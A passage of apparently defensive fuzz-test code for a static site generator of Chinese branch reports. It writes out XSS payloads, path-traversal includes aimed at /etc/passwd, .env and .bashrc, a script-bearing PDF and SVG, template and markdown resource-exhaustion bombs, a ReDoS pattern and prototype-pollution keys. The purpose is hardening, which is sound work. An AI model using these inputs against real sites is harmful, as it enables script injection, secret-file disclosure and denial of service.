  '## pwned {#main}\n\n## pwned {#main}\n\n## pwned {#notes}\n\n## pwned {#cite-t}\n\n## pwned {#site-q}\n\n## pwned {#figures}', '## pwned {#"><script>__pwned()</script>}', "## pwned {#x onclick=__pwned() .c style='a'}", '## pwned {#__proto__}\n\n## pwned {#location}\n\n## pwned {#__hb}\n\n## pwned {#huibianSearch}\n\n## pwned {#n1}\n\n## pwned {#fn1}\n\n## pwned {#a1}', '## <script>__pwned()</script>\n\n## [甲](javascript:__pwned())\n\n## ![甲](x.png "pwned")', '## pwned\n\n## pwned\n\n## pwned-1\n\n## pwned\n\n# pwned\n\n[甲](#pwned-1)',
  '| <script>__pwned()</script> | a |\n| :-- | --: |\n| <img src=x onerror=__pwned()> | \\|pwned |', '表1 <script>__pwned()</script>\n\n| a |\n| - |\n| pwned |', '甲\n: <script>__pwned()</script>\n: [乙](javascript:__pwned())', '<script>__pwned()</script>\n\n急诊支部<script>__pwned()</script>\n2023年12月20日',
];

/** The text in every place of a report's text. */
const CONTEXTS = [(x) => x, (x) => `## ${x}`, (x) => `- ${x}\n  1. ${x}`, (x) => `> ${x}`, (x) => `| a | b |\n| --- | --- |\n| ${x} | ${x} |`, (x) => `甲[^n]\n\n[^n]: ${x}`, (x) => `**${x}** *${x}* ~~${x}~~`, (x) => `[${x}](a.md) ![${x}](x.png)`, (x) => `词\n: ${x}`];

function* markdown(rng) {
  for (const [number, vector] of VECTORS.entries()) {
    yield {
      name: `${number}. ${json(vector).slice(0, 50)}`,
      write: (lab) => {
        const line = vector.split('\n')[0];
        lab.put('content/reports/x.png', picture);
        CONTEXTS.forEach((context, place) => lab.put(`content/reports/v${place}.md`, report('', `pwned\n\n${place ? context(line) : vector}\n\n${vector.split('\n').slice(1).join('\n')}`)));
        lab.put('content/reports/mixed.md', report('', Array.from({ length: 6 }, () => VECTORS[rng(VECTORS.length)]).join('\n\n')));
        lab.put('content/pages/v.md', `---\ntitle: 甲\n---\n\npwned ${vector}\n`);
      },
      queries: ['pwned', line(vector)],
    };
  }
  function line(text) {
    return text.split('\n')[0].slice(0, 60);
  }
}

/* ---- themes */

function* themes() {
  for (const asset of ['index.html', '404.html', 'reports/a.html', 'about.html', 'orgs.html', 'orgs/jiayiyuan.html', 'years/2023.html', 'find.html', 'feed.xml', 'sitemap.xml', 'robots.txt', 'reports.json', 'search/manifest.js', 'search/f/0/0/0.js', '.huibian/ledger', 'INDEX.html', 'reports/A.html', 'reports', 'index.html/x.css', 'reports/b.txt']) {
    yield {
      name: `an asset ${asset}`,
      write: (lab) => {
        lab.put(`themes/default/assets/${asset}`, '<script>__pwned("asset")</script>');
        lab.put('content/reports/b.txt', 'attachment');
        lab.put('content/reports/b.md', report('', '见[附件](b.txt)。', '附件总结'));
      },
      keeps: { 'index.html': '年度总结', 'reports/a.html': '支部有党员', 'reports/b.txt': 'attachment' },
      // Two cases of one name are two names on this disk, and a page of the theme's own is its affair.
      ...(/INDEX|A\.html/.test(asset) && { trusted: true, open: false }),
      tells: /^\.|INDEX|A\.html/.test(asset) ? undefined : [path.basename(asset)],
    };
  }
  const inTemplate = (body) => (lab) => lab.put('themes/default/templates/404.html', `{% extends "layout.html" %}\n{% block main %}${body}{% endblock %}`);
  for (const place of ['../../../../outside/secret.txt', '../../../.env', '/etc/passwd', 'default/../../../.env', '..\\..\\.env', 'file:///etc/passwd', 'default/layout.html\0.env']) {
    yield { name: `includes ${place}`, write: inTemplate(`{% include ${json(place)} %}`) };
    yield { name: `extends ${place}`, write: (lab) => lab.put('themes/default/templates/404.html', `{% extends ${json(place)} %}`) };
  }
  const nest = (depth, end, inside) => `${Array.from({ length: depth }, (_, n) => `{% for a${n} in range(end=${end}) %}`).join('')}${inside}${'{% endfor %}'.repeat(depth)}`;
  const ENDLESS = {
    'range of a billion': '{% for a in range(end=1000000000) %}x{% endfor %}',
    'range of 2^63': '{{ range(end=9223372036854775807) | length }}',
    'six loops of 1,000': nest(6, 1000, 'x'),
    'six loops of 1,000, silent': nest(6, 1000, ''),
    'forty loops of 10': nest(40, 10, ''),
    'doubling in a loop': '{% set x = "x" %}{% for a in range(end=60) %}{% set_global x = x ~ x %}{% endfor %}{{ x | length }}',
    'doubling in a line': `{% set x = "xxxxxxxxxx" %}${'{% set x = x ~ x %}'.repeat(60)}`,
    'doubling by replace': `{% set x = "xx" %}${'{% set x = x | replace(from="x", to="xxxxxxxxxx") %}'.repeat(30)}`,
    'doubling by join': `{% set x = range(end=10000) | join(sep="${'y'.repeat(1000)}") %}{% set z = range(end=10000) | join(sep=x) %}{{ z | length }}`,
    'doubling lists': `{% set x = [1] %}${'{% set x = [x, x, x, x, x, x, x, x] %}'.repeat(30)}{{ x | json_encode }}{{ x }}`,
    'indent': '{{ "a\nb" | indent(width=4000000000) }}',
    'recursive component': '{{ <endless x={1} /> }}{% component endless(x) %}{{ <endless x={x} /> }}{% endcomponent %}',
    'includes itself': '{% include "404.html" %}',
    'two include each other': '{% include "text.html" %}',
    'parentheses': `{{ ${'('.repeat(20_000)}1${')'.repeat(20_000)} }}`,
    'brackets': `{{ ${'['.repeat(20_000)}${']'.repeat(20_000)} }}`,
    'not': `{{ ${'not '.repeat(20_000)}true }}`,
    'sums': `{{ ${'1 + '.repeat(100_000)}1 }}`,
    'filters': `{{ "a"${' | upper'.repeat(50_000)} }}`,
    'blocks': `${'{% if true %}'.repeat(5_000)}${'{% endif %}'.repeat(5_000)}`,
    'numbers': '{{ 99999999999999999999999999 }}{{ 1 / 0 }}{{ 9223372036854775807 * 9223372036854775807 }}{{ 1 % 0 }}{{ 2.0 ** 10000 }}',
    'slices': '{{ "x" | truncate(length=18446744073709551615) }}{{ [1] | nth(n=18446744073709551615) }}{{ 1.5 | round(precision=4000000000) }}',
    'slices, negative': '{{ "x" | truncate(length=-1) }}{{ "abc"[-9223372036854775808:] }}',
    'throws': '{{ throw(message="x" ~ site.title) }}',
    'functions that are not there': '{{ get_env(name="HOME") }}{{ load_data(path="/etc/passwd") }}{{ now() }}{{ get_random(start=0, end=9) }}',
    'a regex': '{{ "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!" | matching(pat="(a+)+$") }}{{ "a" is matching("(a+)+$") }}',
    'sorting': '{% set l = range(end=300000) | reverse %}{{ l | sort | unique | length }}{{ l | group_by(attribute="x") }}',
    '20 MB': `{# ${'x'.repeat(20_000_000)} #}`,
    '20 MB shown': 'x'.repeat(20_000_000),
    'a million tags': '{{ 1 }}'.repeat(500_000),
    'pages that multiply': '{% for a in range(end=1000) %}{% for b in range(end=1000) %}xxxxxxxxxx{% endfor %}{% endfor %}',
  };
  for (const [name, body] of Object.entries(ENDLESS)) yield { name, write: inTemplate(body), open: false, also: ['serve'], trusted: true };
  yield { name: 'every page is endless', open: false, lost: true, trusted: true, also: ['serve'], write: (lab) => lab.put('themes/default/templates/layout.html', nest(5, 1000, '')) };
  yield { name: 'every page is 50 MB', open: false, lost: true, trusted: true, also: ['serve'], write: (lab) => lab.put('themes/default/templates/layout.html', `{% for a in range(end=50000) %}${'x'.repeat(1000)}{% endfor %}`) };
  yield { name: '3,000 templates', open: false, write: (lab) => Array.from({ length: 3000 }, (_, n) => lab.put(`themes/default/templates/t${n}.html`, `{% extends ${n ? `"t${n - 1}.html"` : '"layout.html"'} %}`)) };
  for (const text of MARKUP.slice(0, 8)) {
    yield {
      name: `phrases are ${json(text)}`,
      write: (lab) => {
        const flat = ['skip', 'contents', 'crumbs', 'feed', 'made', 'total', 'comma', 'list', 'semicolon', 'stop', 'paren'].map((key) => `${key}: ${json(`pwned${text}`)}\n`).join('');
        lab.put('themes/default/phrases/zh-CN.yaml', `${flat}title: {separator: ${json(text)}}\nscript: {words: ${json(`${text}|${text}|x`)}}\nlost: {title: ${json(text)}, home: ${json(text)}}\nsearch: {label: ${json(text)}, go: ${json(text)}, more: ${json(text)}}\n`);
        lab.put('themes/default/theme.yaml', `name: ${json(text)}\nauthors: [${json(text)}]\nlicense: ${json(text)}\nversion: ${json(text)}\n`);
      },
    };
  }
  for (const theme of ['../outside/theme', '../../outside/theme', '../../../outside/theme', 'default/../../../outside/theme', '.', '..', '../..', '', '.hidden', '/etc', 'a/b', '..\\outside', 'C:\\', 'con', 'x\0y', '\u202e', '<script>__pwned()</script>', 'x'.repeat(5000), '__proto__']) {
    yield {
      name: `theme: ${json(theme).slice(0, 40)}`,
      lost: true,
      write: (lab) => {
        lab.put('content/site.yaml', `title: 汇编\ntheme: ${json(theme)}\n`);
        lab.put('themes/.hidden/assets/leak.css', `/* ${lab.token}xhiddentheme */`);
        lab.put('themes/a/b/assets/x.css', 'a{}');
      },
    };
  }
}

/* ---- registries */

function* registries() {
  const IDS = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', '../x', '../../../.bashrc', 'a/b', '/etc/x', '.', '..', '', 'con', 'list', 'index', '404', '-', '--', 'x'.repeat(300), 'x'.repeat(5000), 'a\0b', 'a\nb', '%2e%2e', '<img src=x onerror=__pwned()>', '2023', 'A', 'é', '.huibian', 'null', 'true'];
  for (const id of IDS) {
    yield {
      name: `ids ${json(id).slice(0, 40)}, ${id.length}`,
      lost: true,
      queries: ['pwned', `q=pwned&org=${encodeURIComponent(id.slice(0, 300))}`],
      write: (lab) => {
        const entry = { id, name: 'pwned甲', aliases: [id || 'x'] };
        lab.put('content/organizations.yaml', json([entry, { id: 'zhi', name: '支部', parent: id, merged_into: id }]));
        lab.put('content/topics.yaml', json([{ id, name: 'pwned题', synonyms: [id || 'x'] }]));
        lab.put('content/metrics.yaml', json([{ id, name: 'pwned数', unit: '名' }]));
        for (const year of [2022, 2023]) lab.put(`content/reports/r${year}.md`, `---\n${json({ title: 'pwned', branch: 'pwned甲', year, topics: ['pwned题'], metrics: [{ name: 'pwned数', value: year, unit: '名' }], people: [{ name: id || 'x', role: id || 'x' }] })}\n---\n\n正文。\n`);
      },
    };
  }
  const organization = (n, more = {}) => ({ id: `o${n}`, name: `单位${n}`, ...more });
  const nested = (depth) => `[${Array.from({ length: depth }, (_, n) => `{id: n${n}, name: 级${n}, children: [`).join('')}${']}'.repeat(depth)}]`;
  const FILES = {
    'a cycle of one': { organizations: json([organization(0, { parent: 'o0', merged_into: 'o0' })]) },
    'a cycle of two': { organizations: json([organization(0, { parent: 'o1' }), organization(1, { parent: 'o0' })]) },
    'a cycle of 2,000': { organizations: json(Array.from({ length: 2000 }, (_, n) => organization(n, { parent: `o${(n + 1) % 2000}` }))) },
    'a cycle of mergers': { organizations: json(Array.from({ length: 50 }, (_, n) => organization(n, { merged_into: `o${(n + 1) % 50}`, closed: 2020 }))) },
    '2,000 levels by parent': { organizations: json(Array.from({ length: 2000 }, (_, n) => organization(n, n ? { parent: `o${n - 1}` } : {}))), branch: 'o1999' },
    '2,000 levels by parent, backwards': { organizations: json(Array.from({ length: 2000 }, (_, n) => organization(n, n < 1999 ? { parent: `o${n + 1}` } : {}))), branch: 'o0' },
    '30 levels nested': { organizations: nested(15) },
    '2,000 levels nested': { organizations: nested(2000) },
    '2,000 levels by branch': { branch: Array.from({ length: 2000 }, (_, n) => `会${n}`).join('/') },
    '100,000 slashes': { branch: '/'.repeat(100_000) },
    'a graph of parents': { organizations: json(Array.from({ length: 60 }, (_, n) => organization(n, { parents: Array.from({ length: n }, (_, m) => ({ id: `o${m}` })) }))), branch: 'o59' },
    'a dense graph of parents': { organizations: json(Array.from({ length: 600 }, (_, n) => organization(n, { parents: Array.from({ length: Math.min(n, 200) }, (_, m) => ({ id: `o${n - 1 - m}` })) }))), branch: 'o599' },
    '5,000 of one name': { organizations: json(Array.from({ length: 5000 }, (_, n) => ({ id: `o${n}`, name: '党委' }))), branch: '党委' },
    '20,000 aliases': { organizations: json([organization(0, { aliases: Array.from({ length: 20_000 }, (_, n) => `别名${n}`) })]), branch: '别名19999' },
    '2,000 near names': { organizations: json(Array.from({ length: 2000 }, (_, n) => organization(n, { name: `某某市某某医院第${n}党支部` }))), branch: '某某市某某医院第党支部x' },
    'names without end': { organizations: json([organization(0, { names: Array.from({ length: 3000 }, (_, n) => ({ name: `名${n}`, from: 1900 + (n % 200) })), name: undefined })]), branch: 'o0' },
    '3,000 topics': { topics: json(Array.from({ length: 3000 }, (_, n) => ({ id: `t${n}`, name: `主题${n}`, synonyms: [`同${n}`] }))) },
    'topics of one id': { topics: json(Array.from({ length: 100 }, () => ({ id: 't', name: '题' }))) },
    'metrics of one id': { metrics: json(Array.from({ length: 100 }, () => ({ id: 'm', name: '数' }))) },
    'ranks': { organizations: json([['-9223372036854775808'], [1e308], [null], ['甲'], [-1], [9223372036854775807n.toString()]].map(([rank], n) => organization(n, { rank }))) },
    'terms': { terms: json({ wrong: Array.from({ length: 20_000 }, (_, n) => ({ wrong: `错${n}`, right: `对${n}` })) }) },
    'terms that mend for ever': { terms: '- {wrong: 党员, right: 党员党员}\n- {wrong: 一年, right: 一年一年}\n' },
  };
  for (const [name, { branch, ...files }] of Object.entries(FILES)) {
    yield {
      name,
      lost: true,
      open: false,
      write: (lab) => {
        for (const [file, text] of Object.entries(files)) lab.put(`content/${file}.yaml`, text);
        if (branch) lab.put('content/reports/b.md', `---\ntitle: 甲\nbranch: ${json(branch)}\nyear: 2023\n---\n\n正文。\n`);
      },
    };
  }
}

/* ---- attachments */

function* attachments() {
  const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="parent.__pwned()"><script>__pwned()</script></svg>';
  const HTML = '<!doctype html><script>__pwned()</script><img src=//hostile.invalid/x>';
  for (const kind of ['svg', 'html', 'htm', 'xhtml', 'xht', 'js', 'mjs', 'css', 'xml', 'xsl', 'mht', 'swf', 'php', 'shtml', 'json', 'wasm', 'exe', 'SVG', 'HtMl', 'html ', 'html.', 'svgz', 'webmanifest', 'htaccess', 'html\u200b', 'pdf.html', 'hta', 'url', 'lnk', 'jar']) {
    yield {
      name: `.${kind}`,
      write: (lab) => {
        for (const place of ['reports', 'pages', 'reports/dir']) {
          lab.put(`content/${place}/x.${kind}`, /svg/i.test(kind) ? SVG : HTML);
          lab.put(`content/${place}/.${kind}`, HTML);
        }
        lab.put('content/reports/b.md', report('', `pwned [甲](<x.${kind}>) ![乙](<x.${kind}>) [丙](<dir/x.${kind}>) [丁](x.txt)`));
        lab.put('content/reports/x.txt', HTML);
      },
      absent: [new RegExp(`(^|/)x\\.${kind.replace(/[. ]/g, '\\$&')}$`)],
    };
  }
  const head = (width, height) => Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.from([width, height].map((n) => n.toString(16).padStart(8, '0')).join(''), 'hex'), Buffer.from('0806000000', 'hex')]);
  const BYTES = {
    'x.png': { 'svg in a png': SVG, 'html in a png': HTML, 'gif and html': `GIF89a/*${HTML}*/`, 'no pixels': head(0, 0), 'four billion pixels wide': head(0xffffffff, 0xffffffff), 'cut off': picture.subarray(0, 20), 'empty': '', 'png and html': Buffer.concat([picture, Buffer.from(HTML)]) },
    'x.jpg': { 'jpeg without end': Buffer.concat([Buffer.from('ffd8', 'hex'), Buffer.alloc(300_000, Buffer.from('ffe10002', 'hex'))]), 'jpeg of markers': Buffer.alloc(2_000_000, 0xff) },
    'x.webp': { 'webp that lies of its size': Buffer.from('RIFF\xff\xff\xff\xffWEBPVP8X\xff\xff\xff\xff', 'latin1') },
    'x.avif': { 'avif of boxes': Buffer.alloc(500_000, Buffer.from('00000008667265650000000c6674797061766966', 'hex')), 'avif with a box of nothing': Buffer.from('000000006674797061766966', 'hex'), 'avif with a box without end': Buffer.from('0000000c6674797061766966ffffffff6d657461', 'hex') },
    'x.gif': { 'gif of zeros': `GIF89a${'\0'.repeat(100)}` },
    'x.pdf': { 'pdf that is html': HTML, 'pdf with a script': '%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj' },
    'x.txt': { 'txt that is html': HTML, 'txt of 30 MB': Buffer.alloc(30_000_000, 'x') },
    'x.zip': { 'a zip that is html': HTML },
    'x.mp4': { '200 MB of holes': null },
  };
  for (const [file, ways] of Object.entries(BYTES)) {
    for (const [name, bytes] of Object.entries(ways)) {
      yield {
        name,
        write: (lab) => {
          lab.put(`content/reports/${file}`, bytes ?? Buffer.alloc(200_000_000));
          lab.put('content/reports/b.md', report(`source: {name: 甲, file: ${file}}\n`, `pwned [甲](${file})\n\n![乙](${file} "图1 甲")`));
        },
        // What is no picture may be told as such; a browser says that it is broken.
      };
    }
  }
  const COLLIDE = {
    'a page at the address of a report': ['content/pages/reports/a.md', '---\ntitle: pwned\n---\n\n乙\n', 'reports/a.html', '支部有党员'],
    'a page at the home page': ['content/pages/index.md', '---\ntitle: pwned\n---\n\n乙\n', 'index.html', '年度总结'],
    'a page at the find page': ['content/pages/find.md', '---\ntitle: pwned\n---\n\n乙\n', 'find.html', 'id="found"'],
    'a page at an organisation': ['content/pages/orgs/jiayiyuan.md', '---\ntitle: pwned\n---\n\n乙\n', 'orgs/jiayiyuan.html', '甲医院'],
    'a text at robots.txt': ['content/pages/robots.txt', 'pwned', 'robots.txt', 'User-agent'],
    'a text in the search': ['content/pages/search/manifest.js.txt', 'pwned', 'search/manifest.js', '__hb('],
    'an attachment called as a report': ['content/reports/a.html', HTML, 'reports/a.html', '支部有党员'],
    'an attachment folder called as a report': ['content/reports/a.html/x.txt', 'pwned', 'reports/a.html', '支部有党员'],
    'a page folder called as the home page': ['content/pages/index.html/x.txt', 'pwned', 'index.html', '年度总结'],
    'a page folder called as the style': ['content/pages/style.css/x.txt', 'pwned', 'style.css', '{'],
    'an attachment in the ledger': ['content/pages/.huibian/x.txt', 'pwned', 'index.html', '年度总结'],
    'a report of the case of another': ['content/reports/A.md', report('', 'pwned'), 'reports/a.html', ''],
  };
  for (const [name, [file, text, address, kept]] of Object.entries(COLLIDE)) yield { name, write: (lab) => lab.put(file, text), keeps: { [address]: kept } };
}

/* ---- inputs for which a careless reader takes the square of their length */

function* quadratic() {
  const many = (n, make) => Array.from({ length: n }, (_, at) => make(at)).join('');
  const BODIES = {
    '50,000 reference definitions and uses': `${'[a]: x\n'.repeat(50_000)}\n${'[a] '.repeat(50_000)}`,
    '50,000 different references': `${many(50_000, (n) => `[a${n}]: https://example.org/${n}\n`)}\n${many(50_000, (n) => `[a${n}] `)}`,
    '300,000 （': '（'.repeat(300_000),
    '300,000 ）': '）'.repeat(300_000),
    '300,000 “': '“'.repeat(300_000),
    '100,000 （” in turn': '（”'.repeat(100_000),
    '50,000 [a](': '[a]('.repeat(50_000),
    '50,000 ![': '!['.repeat(50_000),
    '100,000 [': '['.repeat(100_000),
    '50,000 [a]': '[a]'.repeat(50_000),
    '50,000 [^a]': `${'[^a]'.repeat(50_000)}\n\n[^a]: 乙\n`,
    '20,000 notes': `${many(20_000, (n) => `[^n${n}]`)}\n\n${many(20_000, (n) => `[^n${n}]: 注\n`)}`,
    '100,000 *a': '*a'.repeat(100_000),
    '100,000 **a_': '**a_'.repeat(50_000),
    '100,000 _': `a${'_a'.repeat(100_000)}`,
    '100,000 ~~': '~~a'.repeat(100_000),
    'growing runs of backticks': many(1_500, (n) => `e${'`'.repeat(n)}`),
    '300,000 backticks in turn': '`` ` '.repeat(80_000),
    '100,000 <': '<'.repeat(100_000),
    '100,000 <a': '<a '.repeat(100_000),
    '50,000 <!--': '<!-- '.repeat(50_000),
    '50,000 <![CDATA[': '<![CDATA['.repeat(50_000),
    '50,000 <?': '<?'.repeat(50_000),
    '5,000 quotes deep': `${'>'.repeat(5_000)} 甲`,
    '5,000 quotes deep, lines': `${'> '.repeat(5_000)}甲\n`.repeat(10),
    '2,000 lists deep': many(2_000, (n) => `${'  '.repeat(n)}- 甲\n`).slice(0, 3_000_000),
    '5,000 lists in a line': `${'- '.repeat(5_000)}甲`,
    '50,000 list items': '- 甲\n'.repeat(50_000),
    '20,000 headings': '## 一、甲\n\n'.repeat(20_000),
    '20,000 headings of one identifier': '## 甲 {#x}\n\n'.repeat(20_000),
    '20,000 links to a heading': `## 甲\n\n${'[乙](#甲) '.repeat(20_000)}`,
    '100,000 links': '[甲](a.md) '.repeat(100_000),
    '20,000 links that lead nowhere': many(20_000, (n) => `[甲](nothing${n}.md) `),
    '100,000 pictures': '![甲](x.png)\n\n'.repeat(50_000),
    'a table of 5,000 columns': `|${' a |'.repeat(5_000)}\n|${' - |'.repeat(5_000)}\n${`|${' b |'.repeat(10)}\n`.repeat(500)}`,
    'a table that grows': `|${' a |'.repeat(1_000)}\n|${' - |'.repeat(1_000)}\n${'| b\n'.repeat(20_000)}`,
    '300,000 line breaks': '甲\n'.repeat(300_000),
    '100,000 definitions': '甲\n: 乙\n\n'.repeat(30_000),
    '100,000 entities': '&amp;&#x41;&notin;'.repeat(60_000),
    '100,000 &': '&'.repeat(300_000),
    '300,000 backslashes': '\\'.repeat(300_000),
    '1,000,000 spaces': `甲${' '.repeat(1_000_000)}乙`,
    '200,000 tabs': `甲${'\t'.repeat(200_000)}乙`,
    '300,000 digits': '1'.repeat(300_000),
    '100,000 numbers': '38名、'.repeat(100_000),
    '100,000 dates': '2023年12月20日，'.repeat(60_000),
    '100,000 percent': '占50%，其中25%；'.repeat(40_000),
    '100,000 wrong commas': '甲,乙'.repeat(100_000),
    '50,000 sentences of one kind': '全年讲党课12次，其中支部书记讲课3次。'.repeat(20_000),
    '100,000 enumerations': '一是甲。二是乙。三是丙。'.repeat(20_000),
    'one sentence of a megabyte': '党员'.repeat(170_000),
    'combining marks': `a${'\u0301'.repeat(200_000)}`,
    'emoji joined': '👩‍'.repeat(100_000),
    'bidi': '\u202e\u2066'.repeat(100_000),
    'telephones': '电话：13812345678，'.repeat(40_000),
    'identity numbers': '110101199003078515，'.repeat(40_000),
    'mail addresses': `${'a'.repeat(50_000)}@${'b.'.repeat(50_000)}`,
    'addresses': `https://${'a/'.repeat(100_000)}`,
    '100,000 ===': '甲\n===\n'.repeat(50_000),
    '200,000 |': `${'|'.repeat(200_000)}\n${'|-'.repeat(100_000)}|`,
    '100,000 captions': '表1 甲\n\n'.repeat(50_000),
    '20,000 alerts': '> [!NOTE]\n> 甲\n\n'.repeat(20_000),
    '50,000 code blocks': '```\n甲\n```\n\n'.repeat(30_000),
    '10 MB of text': '支部有党员三十八名。'.repeat(350_000),
    '40 MB of text': '支部有党员三十八名。'.repeat(1_400_000),
    '200 MB of text': null,
  };
  for (const [name, body] of Object.entries(BODIES)) {
    yield { name, write: (lab) => lab.put('content/reports/q.md', report('', body ?? '支部有党员三十八名。'.repeat(7_000_000))), open: false, also: [] };
  }
  const FRONTS = {
    '20,000 people': { people: Array.from({ length: 20_000 }, (_, n) => ({ name: `张${n}`, role: '书记' })) },
    '20,000 honours': { honours: Array.from({ length: 20_000 }, (_, n) => `先进${n}`) },
    '5,000 achievements': { achievements: Array.from({ length: 5_000 }, (_, n) => ({ text: `办事${n}件`, topics: [`题${n % 50}`] })) },
    '10,000 topics': { topics: Array.from({ length: 10_000 }, (_, n) => `题${n}`) },
    '10,000 metrics': { metrics: Array.from({ length: 5_000 }, (_, n) => ({ name: `指标${n}`, value: n, unit: '名' })) },
    'a title of 200,000': { title: '长'.repeat(80_000) },
    '10,000 allowed': { allow: Array.from({ length: 10_000 }, (_, n) => `rule-${n}`) },
    '50,000 unknown keys': Object.fromEntries(Array.from({ length: 15_000 }, (_, n) => [`titel${n}`, 1])),
  };
  for (const [name, front] of Object.entries(FRONTS)) {
    yield { name, write: (lab) => lab.put('content/reports/q.md', `---\n${json({ title: '甲', branch: '甲医院', year: 2023, ...front })}\n---\n\n正文。\n`), open: false, also: [] };
  }
  yield { name: '3,000 reports', open: false, also: ['serve'], write: (lab) => Array.from({ length: 3_000 }, (_, n) => lab.put(`content/reports/r${n}.md`, report('', `第${n}件事。`))) };
}

/* ---- search */

function* search(rng) {
  const TEXTS = ['</script><script>__pwned()</script>', '<img src=x onerror=__pwned()>', '\u2028\u2029pwned', '\\u2028\\ud800pwned', '__proto__', 'constructor', '__hb("manifest",{})', '");__pwned();("', "');__pwned();('", '`${__pwned()}`', '\\', '\\\\"pwned', '"pwned"', '“pwned”', '<mark>pwned</mark>', '&lt;mark&gt;pwned', '\u202epwned', '\0pwned', '￾pwned', '\ud83dpwned', 'toString', '$&$1$`pwned', '(?:pwned', '[pwned', '*', '%', '%pwned%E4', '#pwned', '?q=pwned', 'a b c d e f g h pwned', '𠮷pwned𬱖', 'ﬁﬂ﷽pwned', 'İıſKpwned', 'ß'.repeat(300), '長'.repeat(2000), 'pwned'.repeat(3000), '😀'.repeat(500), '\u0301'.repeat(500)];
  for (const [number, text] of TEXTS.entries()) {
    const typed = text.slice(0, 60);
    yield {
      name: `${number}. ${json(text).slice(0, 50)}`,
      write: (lab) => {
        everywhere(lab, `${text}${rng(10)}`);
        lab.put('content/reports/raw.md', report(`keywords: ["\\ud800", "\\u2028"]\npeople: ["${'pwned'}\\u2029"]\n`, `pwned ${text.replaceAll('\0', '')}`));
      },
      queries: [typed, `q=${encodeURIComponent(typed.toWellFormed())}&org=${encodeURIComponent('<img src=x onerror=__pwned()>')}&topic=__proto__&year=constructor&sort=%3Cscript%3E`, `q=pwned&org=__proto__&org=constructor&year=2023&topic=%00`, 'pw', 'q=%E4%B8'],
    };
  }
}

export const classes = { links, staging, output, names, yaml, markdown, themes, registries, attachments, quadratic, search };

/** Those that broke a promise when they were first tried, by class and name; the short run has them all. */
export const known = [
  'links/content/reports/x.txt → git',
  'links/content/reports/x.md → zero',
  'links/content/reports/x.md → pipe',
  'links/content/site.yaml → outside',
  'links/content/ → outside',
  'links/themes/default/ → outside',
  'links/content/reports/ → empty',
  'staging/.a.md.huibian → .bashrc',
  'output/lock → outside/new',
  'themes/an asset index.html',
  'themes/an asset reports/a.html',
  'themes/doubling in a loop',
  'registries/2,000 levels by branch',
  'quadratic/50,000 reference definitions and uses',
  'quadratic/300,000 （',
];
